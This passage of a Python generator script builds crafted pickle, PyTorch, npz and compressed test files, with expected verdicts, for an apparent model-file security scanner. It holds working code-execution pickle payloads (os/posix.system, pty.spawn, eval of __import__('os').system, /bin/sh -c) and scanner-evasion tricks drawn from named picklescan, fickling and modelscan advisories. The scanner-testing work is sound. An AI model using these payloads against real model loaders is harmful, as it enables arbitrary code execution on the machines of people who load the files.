          source=f"issue 26: an .npz member compressed with {tag} (zipfile reads it for np.load)",
          data=zip_members([("w.npy", NUMERIC_NPY, method), ("obj.npy", OBJ_NPY, method)]))
entry("numpy/npz_member_without_suffix.npz", glob="posix.system",
      source="NpzFile loads a member named without .npy when it starts with the npy magic",
      data=zip_members([("obj", OBJ_NPY, zipfile.ZIP_DEFLATED)]))
entry("numpy/npz_object_dtype_spelled_O8_lzma.npz", glob="posix.system",
      source="an 'O8' object member, LZMA-compressed",
      data=zip_members([("w.npy", NUMERIC_NPY, zipfile.ZIP_LZMA), ("obj.npy", npy("'O8'", payload()),
                                                                    zipfile.ZIP_LZMA)]))
entry("numpy/npz_reads_on.npz", glob="posix.system", reads_on=True,
      source="an .npz member whose payload follows the pickle np.load reads",
      data=zip_members([("obj.npy", npy("'|O'", harmless(proto=3) + payload()), zipfile.ZIP_BZIP2)]))


def zstd_raw_frame(data):
    """A Zstandard frame of one raw (stored) block: what zipfile's
    ZIP_ZSTANDARD (method 93, Python 3.14) decodes."""
    assert len(data) < (1 << 16) + 256
    if len(data) < 256:
        fhd, fcs = 0x20, bytes([len(data)])
    else:
        fhd, fcs = 0x60, struct.pack("<H", len(data) - 256)
    block = 1 | (len(data) << 3)  # last block, raw
    return b"\x28\xb5\x2f\xfd" + bytes([fhd]) + fcs + block.to_bytes(3, "little") + data


def zip_raw_method(name, data, method, compressed):
    """One zip member of any method number, written by hand."""
    crc = zlib.crc32(data)
    n = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 63, 0, method, 0, 0x5C21, crc, len(compressed), len(data),
                        len(n), 0) + n + compressed
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 63, 63, 0, method, 0, 0x5C21, crc, len(compressed),
                          len(data), len(n), 0, 0, 0, 0, 0, 0) + n
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


entry("numpy/npz_zstd_member.npz", verdict="unscannable", glob="", reason="unknown-compression", dangerous=False,
      source="zipfile.ZIP_ZSTANDARD (method 93, Python 3.14): np.load reads it; unscannable unless decoded "
             "(then unsafe: it holds posix.system)",
      data=zip_raw_method("obj.npy", OBJ_NPY, 93, zstd_raw_frame(OBJ_NPY)))


# --- pickles compressed whole (joblib.dump's compress= options) ------------

def gz(data):
    return gzip.compress(data, compresslevel=9, mtime=0)


COMPRESSORS = [
    ("gzip", ".pkl.gz", gz),
    ("zlib", ".pkl.z", lambda d: zlib.compress(d, 3)),  # joblib's default compressor and level
    ("bz2", ".pkl.bz2", lambda d: bz2.compress(d, 9)),
    ("xz", ".pkl.xz", lambda d: lzma.compress(d, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC64)),
    ("lzma", ".pkl.lzma", lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE)),
]
for tag, ext, comp in COMPRESSORS:
    entry(f"compressed/payload{ext}", glob="posix.system",
          source=f"issue 26: a pickle compressed whole with {tag} (joblib.dump compress='{tag}' or True)",
          data=comp(payload()))
    entry(f"compressed/reads_on{ext}", glob="posix.system", reads_on=True,
          source=f"{tag}: a payload pickle after the one joblib.load / pickle.load reads",
          data=comp(harmless() + payload()))
entry("compressed/gzip_second_member.pkl.gz", glob="posix.system", reads_on=True,
      source="a second gzip member (gzip.open reads members as one stream) holding the payload pickle",
      data=gz(harmless()) + gz(payload()))
entry("compressed/stacked_64.pkl.gz", glob="posix.system", reads_on=True,
      source="issue 26: a payload after 64 harmless pickles, inside gzip",
      data=gz(b"".join(harmless(i) for i in range(64)) + payload()))
entry("compressed/torch_zip.pt.gz", glob="posix.system",
      source="a gzipped torch.save zip (torch.load(gzip.open(f)) reads it)",
      data=gz(torch_zip(payload())))
entry("compressed/truncated_after_payload.pkl.gz", glob="posix.system",
      source="a gzip stream cut in its trailer, after the whole payload: damaged is not an excuse",
      data=gz(payload())[:-6])
entry("compressed/truncated_harmless.pkl.gz", verdict="truncated", glob="", reason="truncated", dangerous=False,
      source="a gzip stream cut in its deflate data: what follows cannot be judged",
      data=gz(b"".join(harmless(i) for i in range(8)))[:40])


# --- stacked pickles -----------------------------------------------------

STACK64 = b"".join(harmless(i) for i in range(64))
entry("stacked/payload_after_64.pkl", glob="posix.system", reads_on=True,
      source="issue 26: a payload after 64 harmless stacked pickles (pickle.load in a loop)",
      data=STACK64 + payload())
entry("stacked/payload_after_300.pkl", glob="posix.system", reads_on=True,
      source="a payload after 300 harmless stacked pickles", data=b"".join(harmless(i) for i in range(300))
      + payload())
entry("stacked/payload_after_64_protocol0.pkl", glob="posix.system", reads_on=True,
      source="the same in protocol 0 (text opcodes)",
      data=b"".join(harmless(i, proto=0) for i in range(64)) + payload(proto=0))
entry("stacked/payload_after_64_in_zip.pt", glob="posix.system", reads_on=True,
      source="data.pkl of a torch zip: 64 pickles, then the payload (torch.load reads one)",
      data=torch_zip(STACK64 + payload()))
entry("stacked/payload_after_64_legacy.pt", glob="os.system", reads_on=True,
      source="a legacy file: the five pickles torch.load reads, 64 more, then the payload (picklescan reads 5)",
      data=legacy(P(2).val({}).stop()) + STACK64 + payload(module="os"))
entry("stacked/payload_after_64_npy.npy", glob="posix.system", reads_on=True,
      source="an object .npy whose data is 64 pickles, then the payload",
      data=npy("'|O'", STACK64 + payload()))


# --- constructs CPython accepts that torchport's VM refuses ------------------
# Each body leaves one value on the stack (or, for mark_open_at_stop, an open
# MARK); every one was checked harmless with CPython's pickle.loads and
# pickle._loads (check_crafted.py does it again, refusing any body that names
# a global outside builtins/collections/_codecs). Three files each: the
# construct alone (unscannable: the scan cannot read it to the end, though it
# names no disallowed global), a payload in the same pickle after it, and a
# payload in the next pickle.

VM_REFUSES = [
    # (name, protocol header, body, leaves a value, what CPython does)
    ("setitem_on_list", b"\x80\x02", b"]Na" b"K\x00Ns", True, "SETITEM on a list: list[0] = None"),
    ("setitems_on_list", b"\x80\x02", b"](NNe" b"(K\x00K\x01K\x01K\x02u", True, "SETITEMS on a list"),
    ("mark_open_at_stop", b"\x80\x02", b"(N", False, "STOP with a MARK still open returns the top"),
    ("nested_lists_300", b"\x80\x02", b"]" * 300 + b"a" * 299, True, "lists nested 300 deep"),
    ("nested_tuples_300", b"\x80\x02", b")" + b"\x85" * 300, True, "tuples nested 300 deep"),
    ("append_to_bytearray", b"\x80\x02", b"cbuiltins\nbytearray\n)RK\x41a", True,
     "APPEND on a bytearray (do_append calls its extend)"),
    ("setitem_on_counter", b"\x80\x02", b"ccollections\nCounter\n)RX\x01\x00\x00\x00aK\x01s", True,
     "SETITEM on a collections.Counter"),
    ("newobj_ex_kwargs", b"\x80\x04", b"ccollections\nOrderedDict\n)}X\x01\x00\x00\x00aK\x01s\x92", True,
     "NEWOBJ_EX with keyword arguments (OrderedDict.__new__ ignores them)"),
    ("set_of_string", b"\x80\x02", b"cbuiltins\nset\nX\x03\x00\x00\x00abc\x85R", True, "set('abc')"),
    ("complex_of_string", b"\x80\x02", b"cbuiltins\ncomplex\nX\x04\x00\x00\x001+2j\x85R", True,
     "complex('1+2j')"),
    ("codecs_encode_utf8", b"\x80\x02",
     b"c_codecs\nencode\nX\x03\x00\x00\x00abcX\x05\x00\x00\x00utf-8\x86R", True, "_codecs.encode(s, 'utf-8')"),
    ("bytearray_of_int", b"\x80\x02", b"cbuiltins\nbytearray\nK\x03\x85R", True, "bytearray(3)"),
    ("ordereddict_of_dict", b"\x80\x02", b"ccollections\nOrderedDict\n}X\x01\x00\x00\x00aK\x01s\x85R", True,
     "OrderedDict({'a': 1})"),
    ("build_ordereddict_slotstate", b"\x80\x02",
     b"ccollections\nOrderedDict\n)RN}X\x01\x00\x00\x00xK\x01s\x86b", True,
     "BUILD (None, {'x': 1}) on an OrderedDict: setattr"),
    ("unicode_lone_surrogate", b"", b"V\\ud800\n", True, "UNICODE '\\ud800' (raw-unicode-escape)"),
]

# Checked and accepted by CPython but also by torchport's VM (so not here):
# BINUNICODE of an encoded surrogate, BUILD of a dict state on a Counter,
# repeated dict keys, FLOAT 'inf', INT '0x10' / '010' / '1_000' / ' 5',
# LONG '0x10L', GET/PUT ' 0' and '+0', POP on an empty MARK segment,
# STACK_GLOBAL of STRING operands (advisories/ has that one with a payload).


def vm_construct(name):
    for n, proto, body, value, what in VM_REFUSES:
        if n == name:
            return proto + body + b"."
    raise KeyError(name)


# The constructs the VM has since learnt to read as CPython does: alone they
# are clean (the only clean entries here), their payloads still unsafe.
VM_FOLLOWS = {"setitem_on_list", "setitems_on_list", "mark_open_at_stop", "complex_of_string",
              "build_ordereddict_slotstate"}

for name, proto, body, value, what in VM_REFUSES:
    alone = proto + body + b"."
    if name in VM_FOLLOWS:
        entry(f"vm_refuses/{name}.pkl", verdict="clean", glob="", reason="", dangerous=False,
              source=f"CPython accepts: {what}; the VM reads it as CPython does", data=alone)
    else:
        entry(f"vm_refuses/{name}.pkl", verdict="unscannable", glob="", reason="vm-refuses", dangerous=False,
              source=f"CPython accepts: {what}; clean only if the VM learns it", data=alone)
    inside = proto + body + (b"0" if value else b"") + payload_body() + b"."
    entry(f"vm_refuses/{name}_payload_inside.pkl", glob="posix.system",
          source=f"issue 26: a payload after a construct the VM refuses, same pickle ({what})", data=inside)
    entry(f"vm_refuses/{name}_then_payload.pkl", glob="posix.system", reads_on=True,
          source=f"issue 26: a payload in the pickle after one the VM refuses ({what})", data=alone + payload())
entry("vm_refuses/setitem_on_list_then_payload.pt", glob="posix.system", reads_on=True,
      source="issue 26: in a torch zip's data.pkl, a list SETITEM pickle, then the payload",
      data=torch_zip(vm_construct("setitem_on_list") + payload()))


# --- 2025-2026 advisories: new globals and tricks ---------------------------
# known_dangerous is what src/pickle/globals.cpp says today: _interpreters,
# _aix_support and _osx_support are not on its deny-list (these files are
# unsafe by the allow-list alone).

def stack_call(module, name, *args, proto=4):
    return P(proto).stack_glob(module, name).val(tuple(args)).raw(b"R").stop()


def adv(name, data, glob, source, reason="calls", dangerous=True):
    entry(f"advisories/{name}", glob=glob, reason=reason, dangerous=dangerous, source=source, data=data)


adv("stack_global_string_operands.pkl",
    b"\x80\x04S'posix'\nS'system'\n\x93" + bytes(P(0).s(CMD).b) + b"\x85R.",
    "posix.system", "picklescan GHSA-9gvj-pp9x-gcfr: STACK_GLOBAL of STRING operands")
adv("stack_global_binstring_operands.pkl",
    b"\x80\x04U\x05posixU\x06system\x93" + bytes(P(0).s(CMD).b) + b"\x85R.",
    "posix.system", "picklescan GHSA-9gvj-pp9x-gcfr: the same with SHORT_BINSTRING")
magic_eval = P(2).call("builtins", "eval", "0x1950A86A20F9469CFC6C").stop()
adv("legacy_magic_by_eval.pt",
    magic_eval + P(2).i(1001).stop() + P(2).val({"protocol_version": 1001, "little_endian": True}).stop()
    + P(2).val({}).stop() + payload(),
    "posix.system", "picklescan GHSA-97f8-7cmv-76j2: a legacy magic number made by eval; the payload as "
    "the storage-key list")
adv("legacy_storage_keys_payload.pt", legacy(P(2).val({}).stop())[:-len(P(2).val([]).stop())] + payload(),
    "posix.system", "the legacy format's fifth pickle (the storage keys), which torch.load reads")
adv("obj_result_popped.pkl", P(4).raw(b"(").stack_glob("posix", "system").s(CMD).raw(b"o0N").stop(),
    "posix.system", "fickling GHSA-mxhj-88fx-4pcv: an OBJ call whose result POP discards")
adv("pathlib_dotted_os_system.pkl", stack_call("pathlib", "os.system", CMD), "pathlib.os.system",
    "fickling GHSA-5j3x-jp52-966f: a dotted STACK_GLOBAL through a stdlib module")
adv("operator_methodcaller.pkl",
    P(2).glob("builtins", "__import__").raw(b"(").s("os").raw(b"tR").raw(b"p0\n0")
    .glob("_operator", "methodcaller").raw(b"(").s("system").s(CMD).raw(b"tR")
    .raw(b"(g0\ntR").stop(),
    "_operator.methodcaller", "picklescan GHSA-955r-x9j8-7rhh (fickling #210): _operator.methodcaller")
adv("private_interpreters_create.pkl", stack_call("_interpreters", "create"), "_interpreters.create",
    "fickling GHSA-6ggj-6f2q-f7mx: private stdlib modules (_interpreters)",
    dangerous=False)
adv("marshal_types_functiontype.pkl",
    P(4).stack_glob("types", "FunctionType").raw(b"(").call("marshal", "loads", b"\xe3", stack=True)
    .raw(b"}").raw(b"tR").raw(b")R").stop(),
    "types.FunctionType", "fickling GHSA-565g-hwwr-4pp3: marshal.loads + types.FunctionType")
adv("numpy_size_builtins_build.pkl",
    P(4).stack_glob("numpy", "size").raw(b"\x94\x94").stack_glob("numpy", "__builtins__").raw(b"\x94\x94")
    .raw(b"h\x01}}").s("shape").raw(b"h\x03s\x86b")
    .raw(b"h\x01h\x01").s("eval").raw(b"\x86R").s(f"__import__('os').system('{CMD}')").raw(b"\x85R").stop(),
    "numpy.size", "modelscan issue #330: BUILD on numpy.size sets .shape to __builtins__, then eval",
    dangerous=False)
adv("multiprocessing_spawnv_passfds.pkl",
    stack_call("multiprocessing.util", "spawnv_passfds", b"/bin/sh", [b"/bin/sh", b"-c", CMD.encode()], ()),
    "multiprocessing.util.spawnv_passfds", "modelscan issue #338: multiprocessing.util.spawnv_passfds")
adv("pandas_read_csv.pkl", stack_call("pandas.io.parsers.readers", "read_csv", "/tmp/torchport-pwned.csv"),
    "pandas.io.parsers.readers.read_csv", "modelscan issue #338: pandas read_csv (reads a URL or a file)",
    dangerous=False)
adv("getattr_import_module.pkl",
    P(4).stack_glob("builtins", "getattr").raw(b"(").call("importlib", "import_module", "os", stack=True)
    .s("system").raw(b"tR").raw(b"(").s(CMD).raw(b"tR").stop(),
    "builtins.getattr", "modelscan issue #331: getattr(importlib.import_module('os'), 'system')")
adv("aix_support_read_cmd_output.pkl", stack_call("_aix_support", "_read_cmd_output", CMD),
    "_aix_support._read_cmd_output", "picklescan GHSA-g38g-8gr9-h9xp, fickling GHSA-5hwf-rc88-82xm",
    dangerous=False)
adv("osx_support_read_output.pkl", stack_call("_osx_support", "_read_output", CMD),
    "_osx_support._read_output", "picklescan GHSA-g38g-8gr9-h9xp",
    dangerous=False)
adv("io_fileio.pkl", stack_call("io", "FileIO", "/tmp/torchport-pwned", "w"), "io.FileIO",
    "picklescan GHSA-9726-w42j-3qjr: io.FileIO")
adv("pty_spawn.pkl", stack_call("pty", "spawn", ["/bin/sh", "-c", CMD]), "pty.spawn",
    "picklescan GHSA-vqmv-47xg-9wpr: pty.spawn")
adv("pydoc_locate.pkl", stack_call("pydoc", "locate", "os"), "pydoc.locate",
    "picklescan GHSA-84r2-jw7c-4r5q: pydoc.locate imports a module by name")
adv("code_interactive_runcode.pkl",
    stack_call("code", "InteractiveInterpreter.runcode", {}, f"__import__('os').system('{CMD}')"),
    "code.InteractiveInterpreter.runcode", "picklescan GHSA-cj3c-v495-4xqh: a method through a dotted name")
adv("profile_run.pkl", stack_call("profile", "run", f"__import__('os').system('{CMD}')"), "profile.run",
    "picklescan GHSA-7wx9-6375-f5wh: profile.run")
adv("trace_trace_run.pkl", stack_call("trace", "Trace.run", {}, f"__import__('os').system('{CMD}')"),
    "trace.Trace.run", "picklescan GHSA-5qwp-399c-mjwf: trace.Trace.run")
adv("torch_dynamo_guardbuilder_get.pt",
    torch_zip(stack_call("torch._dynamo.guards", "GuardBuilder.get", {}, f"__import__('os').system('{CMD}')")),
    "torch._dynamo.guards.GuardBuilder.get", "picklescan GHSA-86cj-95qr-2p4f: torch._dynamo.guards")
adv("torch_symbolic_shapes_guards.pt",
    torch_zip(stack_call("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", {},
                         f"__import__('os').system('{CMD}')", [])),
    "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",
    "picklescan GHSA-f4x7-rfwp-v3xw: torch.fx symbolic_shapes evaluates a guard string")
adv("torch_config_module_load_config.pt",
    torch_zip(stack_call("torch.utils._config_module", "ConfigModule.load_config", {}, b"\x80\x02.")),
    "torch.utils._config_module.ConfigModule.load_config",
    "picklescan GHSA-vv6j-3g6g-2pvj: ConfigModule.load_config unpickles its argument")
adv("lib2to3_grammar_loads.pkl", stack_call("lib2to3.pgen2.grammar", "Grammar.loads", {}, b"\x80\x02."),
    "lib2to3.pgen2.grammar.Grammar.loads", "picklescan GHSA-f54q-57x4-jg88: a nested pickle")
adv("asyncio_unix_subprocess_start.pkl",
    stack_call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, CMD, True, None, None, None, 0),
    "asyncio.unix_events._UnixSubprocessTransport._start", "picklescan GHSA-q77w-mwjj-7mqx")
adv("linecache_getlines.pkl", stack_call("linecache", "getlines", "/tmp/torchport-pwned"), "linecache.getlines",
    "fickling GHSA-r48f-3986-4f9c: linecache reads files")
adv("posixsubprocess_fork_exec.pkl", stack_call("_posixsubprocess", "fork_exec"), "_posixsubprocess.fork_exec",
    "fickling GHSA-m6fh-58r7-x697: _posixsubprocess")


adv("protocol0_text_payload.txt", b"cposix\nsystem\n(S'" + CMD.encode() + b"'\ntR.", "posix.system",
    "picklescan GHSA-769v-p64c-89pr / CVE-2025-1889 (any name): a protocol-0 pickle is plain ASCII text")


def zip_bad_crc(pkl):
    data = bytearray(torch_zip(pkl))
    data[14:18] = b"\x00\x00\x00\x00"  # the first local header's CRC-32
    cd = data.find(b"PK\x01\x02")
    data[cd + 16:cd + 20] = b"\x00\x00\x00\x00"
    return bytes(data)


adv("zip_bad_crc_payload.pt", zip_bad_crc(payload()), "posix.system",
    "picklescan GHSA-7q5r-7gvp-wc82: a CRC error stops zipfile-based scanners, not torch.load")


# --- torch's weights_only rules, 2.6 to 2.14 ---------------------------------
# Files where torch releases read one pickle differently: torch >= 2.10
# refuses SETITEM on anything but a dict (CVE-2026-24747: SETITEM on a
# tensor wrote into its data, past its record with a storage declared
# larger than it); it checks that a storage's record holds exactly the
# declared bytes; torch.load validates sparse tensors (1.13 to 2.7 always,
# 2.8 to 2.13 never by default, 2.14 under weights_only). Each is a torch
# zip in the opcodes torch writes (protocol 2, EMPTY_DICT + SETITEMS: what
# the weights_only unpickler reads), its payload harmless (the item set is
# a number, the indices point past a 2x2 size); each has a benign twin in
# benign/weights_only/ (make_benign.py), built by the same function
# without the payload. "torch_weights_only": null says the scan gives no
# verdict (our reader refuses the file: torch releases read it differently).

def u2(text):
    """BINUNICODE, without PROTO: a body to splice."""
    return bytes(P(2).s(text).b[2:])


def i2(v):
    return bytes(P(2).i(v).b[2:])


def tuple2(*bodies):
    return b"(" + b"".join(bodies) + b"t"


def wo_tensor(key="0", numel=2, size=(2,), stride=(1,), offset=0, storage="FloatStorage"):
    """torch._utils._rebuild_tensor_v2 of storage `key`, as torch.save writes it."""
    pid = tuple2(u2("storage"), b"ctorch\n" + storage.encode() + b"\n", u2(key), u2("cpu"), i2(numel)) + b"Q"
    return (b"ctorch._utils\n_rebuild_tensor_v2\n" +
            tuple2(pid, i2(offset), tuple2(*map(i2, size)), tuple2(*map(i2, stride)), b"\x89",
                   b"ccollections\nOrderedDict\n)R") + b"R")


def wo_zip(body, records):
    """A torch zip whose data.pkl is {...} built by `body` (EMPTY_DICT, MARK, body, SETITEMS)."""
    return torch_zip(b"\x80\x02}(" + body + b"u.", extra=records)


F32_12 = [("data/0", struct.pack("<2f", 1.0, 2.0))]
SEVEN = b"G" + struct.pack(">d", 7.0)  # BINFLOAT 7.0: the item a SETITEM sets


def wo_sparse_coo(indices, size, coalesced=None):
    """_rebuild_sparse_tensor(_get_layout('torch.sparse_coo'), (indices, values, size[, is_coalesced]))
    of int64 `indices` [2, nnz] and float32 values 1, 2, ..."""
    nnz = len(indices[0])
    layout = b"ctorch.serialization\n_get_layout\n" + u2("torch.sparse_coo") + b"\x85R"
    data = [wo_tensor("0", 2 * nnz, (2, nnz), (nnz, 1), storage="LongStorage"),
            wo_tensor("1", nnz, (nnz,), (1,)), tuple2(*map(i2, size))]
    if coalesced is not None:
        data.append(b"\x88" if coalesced else b"\x89")
    body = u2("s") + b"ctorch._utils\n_rebuild_sparse_tensor\n" + tuple2(layout, tuple2(*data)) + b"R"
    return wo_zip(body, [("data/0", struct.pack(f"<{2 * nnz}q", *indices[0], *indices[1])),
                         ("data/1", struct.pack(f"<{nnz}f", *range(1, nnz + 1)))])


def wo_sparse_csr(crow, col, size):
    nnz = len(col)
    layout = b"ctorch.serialization\n_get_layout\n" + u2("torch.sparse_csr") + b"\x85R"
    data = [wo_tensor("0", len(crow), (len(crow),), (1,), storage="LongStorage"),
            wo_tensor("1", nnz, (nnz,), (1,), storage="LongStorage"),
            wo_tensor("2", nnz, (nnz,), (1,)), tuple2(*map(i2, size))]
    body = u2("s") + b"ctorch._utils\n_rebuild_sparse_tensor\n" + tuple2(layout, tuple2(*data)) + b"R"
    return wo_zip(body, [("data/0", struct.pack(f"<{len(crow)}q", *crow)),
                         ("data/1", struct.pack(f"<{nnz}q", *col)),
                         ("data/2", struct.pack(f"<{nnz}f", *range(1, nnz + 1)))])


def wo_sparse_legacy(indices, size):
    """torch.sparse.FloatTensor(indices, values, torch.Size(size)): the legacy constructor."""
    nnz = len(indices[0])
    body = (u2("s") + b"ctorch.sparse\nFloatTensor\n" +
            tuple2(wo_tensor("0", 2 * nnz, (2, nnz), (nnz, 1), storage="LongStorage"),
                   wo_tensor("1", nnz, (nnz,), (1,)), b"ctorch\nSize\n" + tuple2(*map(i2, size)) + b"\x85R") + b"R")
    return wo_zip(body, [("data/0", struct.pack(f"<{2 * nnz}q", *indices[0], *indices[1])),
                         ("data/1", struct.pack(f"<{nnz}f", *range(1, nnz + 1)))])


# The files of both folders, by name: (builder, twin in benign/weights_only).
WEIGHTS_ONLY = {
    # SETITEM / SETITEMS whose target is the tensor: t[0] = 7.0.
    "setitem_on_tensor": lambda: wo_zip(u2("w") + wo_tensor() + i2(0) + SEVEN + b"s", F32_12),
    "setitems_on_tensor": lambda: wo_zip(u2("w") + wo_tensor() + b"(" + i2(0) + SEVEN + b"u", F32_12),
    # ... aimed at the dict instead: {"w": t, "step": 7.0}.
    "setitem_on_dict": lambda: torch_zip(b"\x80\x02}(" + u2("w") + wo_tensor() + b"u" + u2("step") + SEVEN
                                         + b"s.", extra=F32_12),
    # ... at a list: {"w": [7.0]} (2.6 to 2.9 load it, >= 2.10 refuse).
    "setitem_on_list": lambda: wo_zip(u2("w") + b"]" + i2(5) + b"a" + i2(0) + SEVEN + b"s", []),
    # The CVE's other half: the storage declared 1024 floats over a record of
    # two, and t[0] = 7.0 (inside the record: harmless).
    "storage_larger_than_record": lambda: wo_zip(u2("w") + wo_tensor(numel=1024) + i2(0) + SEVEN + b"s", F32_12),
    "storage_smaller_than_record": lambda: wo_zip(u2("w") + wo_tensor(numel=1, size=(1,)), F32_12),
    "tensor": lambda: wo_zip(u2("w") + wo_tensor(), F32_12),
    "append_on_tensor": lambda: wo_zip(u2("w") + wo_tensor() + SEVEN + b"a", F32_12),
    "append_to_list": lambda: wo_zip(u2("w") + b"]" + wo_tensor() + b"a", F32_12),
    "view_past_storage": lambda: wo_zip(u2("w") + wo_tensor(offset=1), F32_12),
    "persistent_id_int": lambda: wo_zip(u2("w") + i2(0) + b"Q", F32_12),
    "persistent_id_text": lambda: wo_zip(u2("w") + u2("storage") + b"Q", F32_12),
    "persistent_id_module": lambda: wo_zip(
        u2("w") + tuple2(u2("module"), b"ctorch\nFloatStorage\n", u2("0"), u2("cpu"), i2(2)) + b"Q", F32_12),
    "sparse_coo": lambda: wo_sparse_coo([[0, 1], [0, 1]], (2, 2)),
    "sparse_coo_index_out_of_range": lambda: wo_sparse_coo([[0, 5], [0, 1]], (2, 2)),
    "sparse_coo_negative_index": lambda: wo_sparse_coo([[0, 1], [-1, 1]], (2, 2)),
    "sparse_coo_coalesced": lambda: wo_sparse_coo([[0, 1], [0, 1]], (2, 2), coalesced=True),
    "sparse_coo_coalesced_with_duplicates": lambda: wo_sparse_coo([[1, 1], [1, 1]], (2, 2), coalesced=True),
    "sparse_csr": lambda: wo_sparse_csr([0, 1, 2], [0, 1], (2, 2)),
    "sparse_csr_column_out_of_range": lambda: wo_sparse_csr([0, 1, 2], [0, 7], (2, 2)),
    "sparse_csr_unsorted_columns": lambda: wo_sparse_csr([0, 2, 2], [1, 0], (2, 2)),
    "sparse_legacy_constructor": lambda: wo_sparse_legacy([[0, 1], [0, 1]], (2, 2)),
    "sparse_legacy_constructor_out_of_range": lambda: wo_sparse_legacy([[0, 5], [0, 1]], (2, 2)),
    # Dtypes the default list gained after 2.6, referenced as values.
    "dtype_int4": lambda: wo_zip(u2("dtype") + b"ctorch\nint4\n", []),
    "dtype_float4_e2m1fn_x2": lambda: wo_zip(u2("dtype") + b"ctorch\nfloat4_e2m1fn_x2\n", []),
    "dtype_bcomplex32": lambda: wo_zip(u2("dtype") + b"ctorch\nbcomplex32\n", []),
}


def wo_entry(name, twin, verdict, source, reason="", wo=None):
    entry(f"weights_only/{name}.pt", verdict=verdict, glob="", reason=reason, dangerous=False,
          source=f"{source} (benign twin: benign/weights_only/{twin}.pt)", data=WEIGHTS_ONLY[name]())
    CASES[-1]["torch_weights_only"] = wo


wo_entry("setitem_on_tensor", "setitem_on_dict", "unsafe",
         "CVE-2026-24747: SETITEM on a rebuilt tensor; torch 1.13 and 2.6 to 2.9 write t[0] = 7.0 into its "
         "data, torch >= 2.10 refuses: refused as ambiguous", reason="ambiguous")
wo_entry("setitems_on_tensor", "setitem_on_dict", "unsafe",
         "SETITEMS on a rebuilt tensor, as SETITEM", reason="ambiguous")
wo_entry("storage_larger_than_record", "tensor", "unsafe",
         "CVE-2026-24747: a storage declared as 1024 floats over a record of 2, and SETITEM on its tensor; "
         "torch < 2.10 reads (and writes) past the record, torch >= 2.10 refuses (record size)",
         reason="oversized-storage")
wo_entry("storage_smaller_than_record", "tensor", "malformed",
         "a storage declared as 1 float over a record of 2: torch < 2.10 drops the rest, >= 2.10 refuses")
wo_entry("append_on_tensor", "append_to_list", "malformed",
         "APPEND on a tensor: every torch refuses (no append; weights_only: only lists)")
wo_entry("view_past_storage", "tensor", "malformed",
         "a view of 2 floats at offset 1 of a storage of 2: every torch refuses (set_ out of bounds)")
wo_entry("persistent_id_int", "tensor", "malformed",
         "an int persistent id: torch 2.6 to 2.8's weights_only refuses it, >= 2.9 passes it to "
         "persistent_load, which refuses it")
wo_entry("persistent_id_text", "tensor", "unscannable",
         "a text persistent id ('storage'): torch.load's persistent_load refuses it (a tuple only)")
wo_entry("persistent_id_module", "tensor", "unscannable",
         "a persistent id of kind 'module': torch's weights_only refuses it (only storage)")
wo_entry("sparse_coo_index_out_of_range", "sparse_coo", "malformed",
         "a COO index past its size: torch 1.13 to 2.7 and >= 2.14 refuse, 2.8 to 2.13 load it unchecked")
wo_entry("sparse_coo_negative_index", "sparse_coo", "malformed", "a negative COO index, as above")
wo_entry("sparse_coo_coalesced_with_duplicates", "sparse_coo_coalesced", "malformed",
         "a COO tensor saved as coalesced with a repeated entry: torch 2.6, 2.7 and >= 2.14 refuse")
wo_entry("sparse_csr_column_out_of_range", "sparse_csr", "malformed",
         "a CSR column index past the columns: torch 2.6, 2.7 and >= 2.14 refuse, 2.8 to 2.13 load it")
wo_entry("sparse_csr_unsorted_columns", "sparse_csr", "malformed",
         "CSR columns of a row out of order: torch's invariant 5.6, as above")
wo_entry("sparse_legacy_constructor_out_of_range", "sparse_legacy_constructor", "malformed",
         "torch.sparse.FloatTensor(indices, values, size) with an index past the size: torch 2.6 and 2.8 to "
         "2.13 load it unchecked, 1.13, 2.7 and >= 2.14 refuse")


def write_tree(folder, tree):
    for rel, data in tree:
        path = os.path.join(HERE, folder, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if isinstance(data, Link):
            os.symlink(data.target, path)
        else:
            with open(path, "wb") as f:
                f.write(data)


def main():
    for g in GROUPS:
        shutil.rmtree(os.path.join(HERE, g), ignore_errors=True)
    listing = []
    for c in CASES:
        if c.get("data") is not None:
            path = os.path.join(HERE, c["file"])
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as f:
                f.write(c["data"])
        listing.append({k: v for k, v in c.items() if k != "data"})
    for folder, tree in TREES:
        write_tree(folder, tree)
    names = [c["file"] for c in listing]
    assert len(names) == len(set(names)), "duplicate case names"
    for c in listing:
        assert os.path.lexists(os.path.join(HERE, c["file"])), c["file"]
    with open(os.path.join(HERE, "expected.json"), "w") as f:
        json.dump(listing, f, indent=1)
        f.write("\n")
    print(f"{len(listing)} crafted files and folders in {HERE}")


if __name__ == "__main__":
    main()
